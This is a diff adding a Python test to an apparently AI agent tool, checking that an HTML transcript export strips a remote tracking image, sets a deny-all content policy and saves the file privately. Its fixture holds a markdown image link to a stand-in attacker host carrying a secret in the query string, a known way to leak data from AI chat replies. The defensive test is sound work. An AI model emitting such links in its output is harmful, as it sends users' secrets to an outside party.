@@ -35,3 +35,22 @@ def test_a_planted_mcp_log_link_does_not_empty_its_target(tmp_path):
     assert (mcp / "time.log").is_symlink()
     assert stat.S_IMODE(mcp.stat().st_mode) == 0o700
     assert stat.S_IMODE((mcp / "other.log").stat().st_mode) == 0o600
+
+
+def test_an_html_export_fetches_no_remote_image_and_is_private(tmp_path):
+    """22.8 and issue 25.12: `/render x.html` of a reply with a tracking image keeps no remote resource
+    (no `src=` to it, a CSP that refuses one), and the saved file is 0600."""
+    from xun.context.conversation import Conversation
+    from xun.tui.export import render_transcript
+
+    conversation = Conversation()
+    conversation.add_user_message("show me")
+    conversation.add_agent_message({"role": "assistant",
+                                    "content": "done ![logo](https://attacker.example/p.png?k=SECRET) ok"})
+    path = render_transcript(conversation, "x.html", tmp_path)
+    page = path.read_text()
+    assert "<img" not in page and 'src="https://attacker.example' not in page
+    assert "default-src 'none'" in page
+    assert "attacker.example/p.png?k=SECRET" in page  # shown as text, nothing lost
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
+
